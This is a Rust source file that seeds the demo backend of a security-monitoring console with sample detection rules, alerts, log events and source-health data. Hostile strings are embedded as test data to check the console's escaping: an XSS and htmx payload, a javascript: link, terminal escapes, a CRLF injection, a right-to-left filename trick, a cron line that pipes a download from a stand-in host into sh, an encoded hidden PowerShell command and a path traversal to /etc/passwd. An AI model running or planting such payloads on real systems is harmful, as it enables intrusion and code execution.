//! Sample data: what a small company's node might show, with hostile text in places where an
//! attacker can write.

use std::sync::Arc;

use covigil_console::backend::{
    AuditEntry, AuditRecord, Criticality, EventView, HistoryEntry, Live, Note, Output, OutputKind,
    RuleDetail, RuleState, SyslogTransport,
};
use covigil_model::{
    Alert, AlertId, AlertState, Attr, Class, Disposition, EntityKind, EntityRef, Event, EventId, Finding,
    Kind, Matched, NoteId, RuleRef, Severity, Status, Time,
    health::{SourceHealth, SourceState},
};

use super::{Memory, State, alerts::context_of, searches::later};

/// Markup, an attribute's end, htmx, a script address, ANSI, line ends, a bidirectional override.
pub const HOSTILE: &str = "<img src=x onerror=alert(1)>\"'><b hx-get=/x hx-trigger=load>javascript:alert(2) \x1b[31m\r\nX: \u{202e}gpj.exe";

const HOSTS: [&str; 8] = ["web-01", "web-02", "db-01", "dc-01", "fs-01", "lap-anna", "lap-jonas", "build-01"];
const USERS: [&str; 8] =
    ["root", "anna", "jonas", "svc_backup", "deploy", "postgres", "Administrator", "mwagner"];
const ADDRESSES: [&str; 6] =
    ["203.0.113.77", "198.51.100.23", "10.20.4.17", "10.20.4.91", "192.0.2.140", "2001:db8:40::1f"];

struct Rule {
    id: &'static str,
    title: &'static str,
    level: Severity,
    techniques: &'static [&'static str],
    tactics: &'static [&'static str],
    log_source: &'static str,
    description: &'static str,
    field: &'static str,
    summary: Option<&'static str>,
}

const RULES: [Rule; 11] = [
    Rule {
        id: "9d1f4a52-6c0b-4f7e-9c55-0f6f6f1f0a01",
        title: "Many failed sign-ins, then a success",
        level: Severity::Critical,
        techniques: &["T1110.001", "T1078"],
        tactics: &["credential-access", "initial-access"],
        log_source: "linux / sshd",
        description: "Ten or more failed SSH sign-ins from one address within five minutes, followed by one that succeeded.",
        field: "src_ip",
        summary: Some("23 failed sign-ins in 300 s, then 1 success"),
    },
    Rule {
        id: "9d1f4a52-6c0b-4f7e-9c55-0f6f6f1f0a02",
        title: "SSH password guessing",
        level: Severity::High,
        techniques: &["T1110.001"],
        tactics: &["credential-access"],
        log_source: "linux / sshd",
        description: "Five or more failed SSH sign-ins from one address within a minute.",
        field: "src_ip",
        summary: Some("14 failed sign-ins in 60 s"),
    },
    Rule {
        id: "9d1f4a52-6c0b-4f7e-9c55-0f6f6f1f0a03",
        title: "LSASS memory read by an unusual process",
        level: Severity::Critical,
        techniques: &["T1003.001"],
        tactics: &["credential-access"],
        log_source: "windows / process_access",
        description: "A process opened the Local Security Authority with rights that allow reading its memory.",
        field: "SourceImage",
        summary: None,
    },
    Rule {
        id: "9d1f4a52-6c0b-4f7e-9c55-0f6f6f1f0a04",
        title: "PowerShell with an encoded command",
        level: Severity::High,
        techniques: &["T1059.001", "T1027"],
        tactics: &["execution", "defense-evasion"],
        log_source: "windows / process_creation",
        description: "PowerShell was started with a base64 command, which hides what it does from a glance.",
        field: "CommandLine",
        summary: None,
    },
    Rule {
        id: "9d1f4a52-6c0b-4f7e-9c55-0f6f6f1f0a05",
        title: "New member of a local administrators group",
        level: Severity::Medium,
        techniques: &["T1098"],
        tactics: &["persistence", "privilege-escalation"],
        log_source: "windows / security",
        description: "An account was added to a group with administrative rights.",
        field: "TargetUserName",
        summary: None,
    },
    Rule {
        id: "9d1f4a52-6c0b-4f7e-9c55-0f6f6f1f0a06",
        title: "Event log cleared",
        level: Severity::High,
        techniques: &["T1070.001"],
        tactics: &["defense-evasion"],
        log_source: "windows / security",
        description: "The security log was cleared. Whoever did it may have had something to hide.",
        field: "SubjectUserName",
        summary: None,
    },
    Rule {
        id: "9d1f4a52-6c0b-4f7e-9c55-0f6f6f1f0a07",
        title: "Path traversal in a web request",
        level: Severity::Medium,
        techniques: &["T1190"],
        tactics: &["initial-access"],
        log_source: "webserver",
        description: "A request tried to leave the document root.",
        field: "cs-uri-query",
        summary: None,
    },
    Rule {
        id: "9d1f4a52-6c0b-4f7e-9c55-0f6f6f1f0a08",
        title: "Cron job runs a download",
        level: Severity::High,
        techniques: &["T1053.003"],
        tactics: &["persistence", "execution"],
        log_source: "linux / cron",
        description: "A scheduled job fetches and runs something from the network.",
        field: "command",
        summary: None,
    },
    Rule {
        id: "9d1f4a52-6c0b-4f7e-9c55-0f6f6f1f0a09",
        title: "sudo to a root shell",
        level: Severity::Low,
        techniques: &["T1548.003"],
        tactics: &["privilege-escalation"],
        log_source: "linux / sudo",
        description: "A user opened a shell as root. Normal for administrators.",
        field: "command",
        summary: None,
    },
    Rule {
        id: "9d1f4a52-6c0b-4f7e-9c55-0f6f6f1f0a10",
        title: "Source went silent",
        level: Severity::Medium,
        techniques: &[],
        tactics: &[],
        log_source: "covigil / health",
        description: "A source that usually sends has been silent for longer than is usual at this hour.",
        field: "source",
        summary: Some("no record for 47 min; usual is 2 min"),
    },
    Rule {
        id: "9d1f4a52-6c0b-4f7e-9c55-0f6f6f1f0a11",
        title: HOSTILE,
        level: Severity::Informational,
        techniques: &["T1036"],
        tactics: &["defense-evasion"],
        log_source: HOSTILE,
        description: HOSTILE,
        field: "message",
        summary: Some(HOSTILE),
    },
];

fn rule_ref(rule: &Rule) -> RuleRef {
    RuleRef {
        id: rule.id.to_owned(),
        title: rule.title.to_owned(),
        level: rule.level,
        techniques: rule.techniques.iter().map(|t| (*t).to_owned()).collect(),
        tactics: rule.tactics.iter().map(|t| (*t).to_owned()).collect(),
        description: rule.description.to_owned(),
        false_positives: vec![
            "Vulnerability scanners that the customer ordered".to_owned(),
            HOSTILE.to_owned(),
        ],
        references: vec![
            "https://attack.mitre.org/techniques/T1110/001/".to_owned(),
            "javascript:alert(3)".to_owned(),
        ],
    }
}

fn rule_text(rule: &Rule) -> String {
    let kind =
        if rule.summary.is_some() { "correlation:\n  type: event_count\n  timespan: 5m\n" } else { "" };
    format!(
        "title: {}\nid: {}\nstatus: test\nlevel: {}\nlogsource: {{ {} }}\n{kind}detection:\n  selection:\n    {}|contains: '…'\n  condition: selection\n",
        rule.title,
        rule.id,
        rule.level.as_str(),
        rule.log_source,
        rule.field
    )
}

/// Numbers that look random and are the same each time.
struct Dice(u64);

impl Dice {
    fn roll(&mut self, sides: usize) -> usize {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        ((self.0 >> 33) % sides as u64) as usize
    }

    fn pick<T: Copy>(&mut self, from: &[T]) -> T {
        from[self.roll(from.len())]
    }
}

fn id(source: &str, sequence: u64) -> EventId {
    EventId { source: Arc::from(source), sequence }
}

struct Draft {
    event: Event,
}

impl Draft {
    fn new(source: &str, sequence: u64, time: Time, parser: &str, class: Class, original: &str) -> Self {
        let mut event = Event::from_original(original);
        event.id = id(source, sequence);
        event.time = time;
        event.received = later(time, 0, 38_000_000);
        event.parser = Arc::from(parser);
        event.class = class;
        Self { event }
    }

    /// A field whose value stands in the original, if it does; with its column.
    fn with(mut self, name: &str, value: &str, attr: Option<Attr>) -> Self {
        let place = self.event.original().find(value);
        let span = match place {
            Some(at) => {
                let span = self.event.span(at, at + value.len());
                self.event.add_span_field(name, span);
                span
            }
            None => {
                self.event.add_field(name, value, Kind::Text);
                self.event.append(value)
            }
        };
        if let Some(attr) = attr {
            self.event.set_attr(attr, span);
        }
        self
    }

    fn done(self) -> EventView {
        EventView::from(&self.event)
    }
}

fn sshd(sequence: u64, time: Time, host: &str, user: &str, address: &str, ok: bool) -> EventView {
    let word = if ok { "Accepted" } else { "Failed" };
    let message =
        format!("{word} password for {user} from {address} port {} ssh2", 30_000 + sequence % 30_000);
    let original =
        format!("<38>{} {host} sshd[{}]: {message}", &time.to_string()[..19], 900 + sequence % 5_000);
    let mut draft = Draft::new("file:auth.log", sequence, time, "syslog", Class::AUTHENTICATION, &original)
        .with("host", host, Some(Attr::DeviceHostname))
        .with("program", "sshd", Some(Attr::Product))
        .with("user", user, Some(Attr::UserName))
        .with("src_ip", address, Some(Attr::SrcIp))
        .with("action", word, None)
        .with("message", &message, Some(Attr::Message));
    draft.event.status = if ok { Status::Success } else { Status::Failure };
    draft.event.log_source.set("linux", &["sshd", "auth"], &[]);
    draft.done()
}

fn process(sequence: u64, time: Time, host: &str, user: &str, image: &str, command: &str) -> EventView {
    let text = serde_json::json!({
        "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Computer": host, "User": user,
        "Image": image, "CommandLine": command, "ParentImage": "C:\\Windows\\explorer.exe",
        "Hashes": "SHA256=5E884898DA28047151D0E56F8DC6292773603D0D6AABBDD62A11EF721D1542D8", "IntegrityLevel": "High",
    });
    Draft::new("wef:sysmon", sequence, time, "windows", Class::PROCESS, &text.to_string())
        .with("Channel", "Microsoft-Windows-Sysmon/Operational", Some(Attr::LogName))
        .with("EventID", "1", Some(Attr::EventCode))
        .with("Computer", host, Some(Attr::DeviceHostname))
        .with("User", user, Some(Attr::UserName))
        .with("Image", image, Some(Attr::ProcessPath))
        .with("CommandLine", command, Some(Attr::ProcessCmdLine))
        .with("ParentImage", "C:\\Windows\\explorer.exe", Some(Attr::ParentPath))
        .with(
            "Hashes",
            "SHA256=5E884898DA28047151D0E56F8DC6292773603D0D6AABBDD62A11EF721D1542D8",
            Some(Attr::FileHashes),
        )
        .with("IntegrityLevel", "High", None)
        .done()
}

fn web(sequence: u64, time: Time, host: &str, address: &str, path: &str, agent: &str) -> EventView {
    let original = format!("{address} - - [{}] \"GET {path} HTTP/1.1\" 404 162 \"-\" \"{agent}\"", time);
    Draft::new("file:nginx", sequence, time, "webserver", Class::HTTP, &original)
        .with("host", host, Some(Attr::DeviceHostname))
        .with("c-ip", address, Some(Attr::SrcIp))
        .with("cs-method", "GET", Some(Attr::HttpMethod))
        .with("cs-uri-query", path, Some(Attr::Url))
        .with("sc-status", "404", Some(Attr::HttpStatus))
        .with("cs-user-agent", agent, Some(Attr::UserAgent))
        .done()
}

fn plain(sequence: u64, time: Time, host: &str, program: &str, message: &str) -> EventView {
    let original =
        format!("<30>{} {host} {program}[{}]: {message}", &time.to_string()[..19], 100 + sequence % 900);
    Draft::new("journal", sequence, time, "syslog", Class::APPLICATION_LIFECYCLE, &original)
        .with("host", host, Some(Attr::DeviceHostname))
        .with("program", program, Some(Attr::Product))
        .with("message", message, Some(Attr::Message))
        .done()
}

fn event(dice: &mut Dice, sequence: u64, time: Time) -> EventView {
    let host = dice.pick(&HOSTS);
    match dice.roll(10) {
        0..=2 => sshd(sequence, time, host, dice.pick(&USERS), dice.pick(&ADDRESSES), dice.roll(4) == 0),
        3 | 4 => {
            let (image, command) = dice.pick(&[
                ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami /all"),
                (
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
                ),
                ("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -pinfected out.7z C:\\Users\\anna\\Documents"),
                ("C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule"),
            ]);
            process(sequence, time, host, dice.pick(&USERS), image, command)
        }
        5 | 6 => {
            let path = dice.pick(&[
                "/",
                "/login",
                "/api/v2/orders?page=3",
                "/static/app.css",
                "/download?file=../../../../etc/passwd",
                "/wp-login.php",
            ]);
            let agent = dice.pick(&[
                "Mozilla/5.0 (X11; Linux x86_64) Firefox/132.0",
                "curl/8.9.1",
                "sqlmap/1.8",
                HOSTILE,
            ]);
            web(sequence, time, host, dice.pick(&ADDRESSES), path, agent)
        }
        7 => plain(sequence, time, host, "CRON", "(root) CMD (curl -s http://198.51.100.23/x.sh | sh)"),
        8 => plain(
            sequence,
            time,
            host,
            "sudo",
            "   anna : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND=/bin/bash",
        ),
        _ => plain(
            sequence,
            time,
            host,
            "systemd",
            "Started session-4211.scope - Session 4211 of User deploy.",
        ),
    }
}

fn entities(dice: &mut Dice) -> Vec<EntityRef> {
    let entity = |kind, name: &str| EntityRef { kind, name: name.to_owned() };
    let mut out =
        vec![entity(EntityKind::Host, dice.pick(&HOSTS)), entity(EntityKind::User, dice.pick(&USERS))];
    if dice.roll(3) > 0 {
        out.push(entity(EntityKind::Address, dice.pick(&ADDRESSES)));
    }
    if dice.roll(7) == 0 {
        out.push(entity(
            EntityKind::File,
            "C:\\Users\\anna\\AppData\\Local\\Temp\\upd\\svchost_update_helper_service.exe",
        ));
    }
    out
}

fn alert(
    state: &mut State,
    tenant: covigil_model::TenantId,
    rule: &Rule,
    number: u64,
    raised: Time,
    dice: &mut Dice,
) -> Alert {
    let mut entities = entities(dice);
    let name = |kind| entities.iter().find(|e| e.kind == kind).map(|e| e.name.clone());
    let host = name(EntityKind::Host).unwrap_or_default();
    let user = name(EntityKind::User).unwrap_or_default();
    let address = name(EntityKind::Address).unwrap_or_else(|| ADDRESSES[0].to_owned());
    let sequence = 1_000_000 + number * 10;
    let seen = later(raised, -1, 250_000_000);
    let mut events = Vec::new();
    let matched = match rule.field {
        "src_ip" => {
            for i in 0..5 {
                events.push(sshd(sequence + i, seen.plus_secs(i as i64 - 5), &host, &user, &address, i == 4));
            }
            vec![
                Matched { field: "src_ip".into(), value: address },
                Matched { field: "action".into(), value: "Accepted".into() },
            ]
        }
        "CommandLine" | "SourceImage" | "TargetUserName" | "SubjectUserName" => {
            let command = "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
            let image = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
            events.push(process(sequence, seen, &host, &user, image, command));
            vec![
                Matched { field: "CommandLine".into(), value: command.into() },
                Matched { field: "Image".into(), value: image.into() },
            ]
        }
        "cs-uri-query" => {
            let path = "/download?file=../../../../etc/passwd";
            events.push(web(sequence, seen, &host, &address, path, HOSTILE));
            vec![Matched { field: "cs-uri-query".into(), value: path.into() }]
        }
        "message" => {
            events.push(plain(sequence, seen, &host, "app", HOSTILE));
            entities.push(EntityRef { kind: EntityKind::File, name: HOSTILE.to_owned() });
            vec![Matched { field: "message".into(), value: HOSTILE.into() }]
        }
        _ => {
            events.push(plain(
                sequence,
                seen,
                &host,
                "CRON",
                "(root) CMD (curl -s http://198.51.100.23/x.sh | sh)",
            ));
            vec![Matched { field: String::new(), value: "curl -s".into() }]
        }
    };
    let rule_ref = rule_ref(rule);
    let ids: Vec<EventId> = events.iter().map(|e| e.id.clone()).collect();
    let group = format!("{}|{}", rule.id, number);
    let count = if rule.summary.is_some() { 1 + dice.roll(40) as u64 } else { 1 };
    let findings: Vec<Finding> = (0..count.min(6))
        .map(|i| Finding {
            id: Finding::derive_id(rule.id, &ids, &format!("{group}{i}")),
            solution: "siem".to_owned(),
            rule: rule_ref.clone(),
            time: seen.plus_secs(-60 * i as i64),
            events: ids.clone(),
            matched: matched.clone(),
            entities: entities.clone(),
            group: group.clone(),
            summary: rule.summary.map(str::to_owned),
        })
        .collect();
    let base = rule.level.ocsf_id() * 17;
    let alert = Alert {
        id: AlertId::derived(&[group.as_bytes()]),
        tenant,
        rule: rule_ref,
        solution: "siem".to_owned(),
        severity: rule.level,
        risk: (base + dice.roll(15) as u8).min(100),
        group,
        summary: rule.summary.map(str::to_owned),
        entities,
        count,
        first_seen: seen.plus_secs(-60 * (count as i64 - 1)),
        last_seen: seen,
        raised,
        state: AlertState::New,
        disposition: None,
        assignee: None,
        assignee_name: None,
        changed: raised,
    };
    state.events.extend(events);
    state.findings.insert(alert.id, findings);
    let first = HistoryEntry {
        time: raised,
        actor: "pipeline".to_owned(),
        what: format!("raised by {}", rule.log_source),
    };
    state.history.insert(alert.id, vec![first]);
    alert
}

fn work(state: &mut State, alert: &mut Alert, dice: &mut Dice) {
    let users = state.users.clone();
    let who = &users[dice.roll(2)];
    let at = alert.raised.plus_secs(120 + dice.roll(2_000) as i64);
    let mut add = |what: String| {
        let entry = HistoryEntry { time: at, actor: who.name.clone(), what };
        state.history.entry(alert.id).or_default().push(entry);
    };
    alert.assignee = Some(who.id);
    alert.assignee_name = Some(who.name.clone());
    alert.state = AlertState::InProgress;
    alert.changed = at;
    add(format!("assigned to {}", who.name));
    if dice.roll(4) > 0 {
        let how = Disposition::ALL[dice.roll(4)];
        alert.state = AlertState::Closed;
        alert.disposition = Some(how);
        add(format!("closed as {}", how.as_str().replace('_', " ")));
        let text = format!(
            "Checked with the owner of the host. {}",
            if dice.roll(5) == 0 { HOSTILE } else { "Known maintenance window." }
        );
        let note = Note {
            id: NoteId::derived(&[&alert.id.bits().to_le_bytes()]),
            author: who.name.clone(),
            time: at,
            text,
        };
        state.notes.insert(alert.id, vec![note]);
    }
}

fn source(
    name: &str,
    description: &str,
    state: SourceState,
    detail: &str,
    rate: f64,
    seen: Option<Time>,
) -> SourceHealth {
    SourceHealth {
        source: name.to_owned(),
        description: description.to_owned(),
        state,
        detail: detail.to_owned(),
        records: (rate * 86_400.0) as u64,
        bytes: (rate * 86_400.0 * 412.0) as u64,
        rate,
        last_seen: seen,
        parse_failures: 0,
        lost: 0,
        lag_ms: 180,
    }
}

/// Fills an empty backend.
pub fn fill(memory: &Memory) {
    let now = memory.started;
    let tenant = memory.seat.tenant;
    let mut dice = Dice(7);
    let mut state = memory.lock();
    let state = &mut *state;
    for (number, rule) in RULES.iter().enumerate() {
        state.rules.push(RuleDetail {
            rule: rule_ref(rule),
            text: rule_text(rule),
            path: format!(
                "rules/{}/{number:02}.yml",
                rule.log_source.split([' ', '<']).next().unwrap_or("x")
            ),
            log_source: rule.log_source.to_owned(),
            author: "Covigil".to_owned(),
            state: RuleState::On,
            findings: 3 + dice.roll(200) as u64,
            last_finding: Some(now.plus_secs(-(dice.roll(9_000) as i64))),
        });
    }
    let mut broken = state.rules[6].clone();
    broken.rule.id = "9d1f4a52-6c0b-4f7e-9c55-0f6f6f1f0a99".to_owned();
    broken.rule.title = "Look-ahead in a web request".to_owned();
    broken.state = RuleState::Failed(
        "The pattern in cs-uri-query uses look-around (?=…), which cannot be matched in linear time."
            .to_owned(),
    );
    broken.findings = 0;
    broken.last_finding = None;
    state.rules.push(broken);

    for i in 0..2_400u64 {
        let back = (dice.roll(86_400) as i64).min(dice.roll(86_400) as i64);
        let time = later(now, -back, -(dice.roll(1_000_000_000) as i64));
        let event = event(&mut dice, i + 1, time);
        state.events.push(event);
    }
    let mut strange = plain(999_999, now.plus_secs(-30), "fs-01", "app", HOSTILE);
    strange.failure = Some(format!("no known format begins like this: {HOSTILE}"));
    state.events.push(strange);

    for number in 0..260u64 {
        let rule = &RULES[[0, 1, 1, 1, 2, 3, 3, 4, 4, 5, 6, 6, 6, 6, 7, 8, 8, 8, 8, 9, 10][dice.roll(21)]];
        let back = (number * number * 4 + dice.roll(600) as u64) as i64;
        let mut made = alert(state, tenant, rule, number, now.plus_secs(-back), &mut dice);
        if number > 14 && dice.roll(10) > 0 {
            work(state, &mut made, &mut dice);
        }
        state.alerts.push(made);
    }
    state.made = 10_000;

    for (kind, name, criticality, remark) in [
        (
            EntityKind::Host,
            "dc-01",
            Criticality::Critical,
            "Domain controller. Owner: mwagner. No interactive sign-ins outside the change window.",
        ),
        (EntityKind::Host, "db-01", Criticality::High, "Orders database."),
        (
            EntityKind::Address,
            "10.20.4.17",
            Criticality::Low,
            "Vulnerability scanner, Tuesdays 02:00 to 04:00.",
        ),
    ] {
        let entity = EntityRef { kind, name: name.to_owned() };
        let mut context = context_of(state, &entity);
        context.criticality = criticality;
        context.remark = remark.to_owned();
        context.edited = Some(("ana".to_owned(), now.plus_secs(-3 * 86_400)));
        state.entities.insert(entity, context);
    }

    let seen = |secs: i64| Some(now.plus_secs(-secs));
    state.sources = vec![
        source("file:auth.log", "file /var/log/auth.log", SourceState::Live, "", 4.2, seen(2)),
        source("journal", "journal of this machine", SourceState::Live, "", 18.6, seen(0)),
        source(
            "wef:sysmon",
            "Windows Event Forwarding: Sysmon, 6 machines",
            SourceState::Live,
            "",
            122.0,
            seen(1),
        ),
        source("file:nginx", "file /var/log/nginx/access.log", SourceState::Live, "", 61.3, seen(0)),
        source("syslog-udp", "syslog udp 0.0.0.0:514", SourceState::Live, "", 9.0, seen(3)),
        source(
            "file:pg",
            "file /var/log/postgresql/postgresql-15-main.log",
            SourceState::Silent,
            "No record for 47 min; usual at this hour is one every 2 min. Check that PostgreSQL still writes there.",
            0.0,
            seen(2_820),
        ),
        source(
            "logins:btmp",
            "failed logins /var/log/btmp",
            SourceState::Unreadable,
            "Permission denied. Run the node as root, or add its user to the group utmp.",
            0.0,
            None,
        ),
        source(
            "snapshot:packages",
            "installed packages",
            SourceState::Off,
            "Turned off by configuration.",
            0.0,
            None,
        ),
    ];
    state.sources[3].parse_failures = 37;
    state.sources[4].lost = 1_204;
    state.outputs = vec![
        Output {
            name: "duty phone".to_owned(),
            kind: OutputKind::Webhook {
                url: "https://hooks.example.org/duty".to_owned(),
                authorization: None,
            },
            least: Severity::High,
            enabled: true,
        },
        Output {
            name: "archive".to_owned(),
            kind: OutputKind::Syslog { address: "10.20.0.5:514".to_owned(), transport: SyslogTransport::Tcp },
            least: Severity::Low,
            enabled: true,
        },
    ];
    for (secs, actor, action, target, detail) in [
        (7_400, "ana", "output.save", "duty phone", "webhook"),
        (5_200, "ben", "alert.change", "e3b0c44298fc1c149afbf4c8996fb924", "1 alert closed as benign."),
        (3_100, "ben", "entity.change", "host dc-01", "criticality critical"),
        (1_900, "ana", "user.create", HOSTILE, "viewer"),
    ] {
        let entry = AuditEntry {
            action: action.to_owned(),
            target: target.to_owned(),
            done: true,
            detail: detail.to_owned(),
        };
        state.audit.push(AuditRecord { time: now.plus_secs(-secs), actor: actor.to_owned(), entry });
    }
}

/// One more alert.
pub fn raise(memory: &Memory) -> AlertId {
    let mut state = memory.lock();
    state.made += 1;
    let number = state.made;
    let mut dice = Dice(number);
    let made = alert(&mut state, memory.seat.tenant, &RULES[1], number, Time::now(), &mut dice);
    state.alerts.push(made.clone());
    drop(state);
    let id = made.id;
    let _ = memory.live.send(Live::Raised(Box::new(made)));
    id
}

/// One more event.
pub fn hear(memory: &Memory) {
    let mut state = memory.lock();
    state.made += 1;
    let number = state.made;
    let heard = event(&mut Dice(number), 2_000_000 + number, Time::now());
    state.events.push(heard.clone());
    drop(state);
    let _ = memory.fresh.send(heard);
}
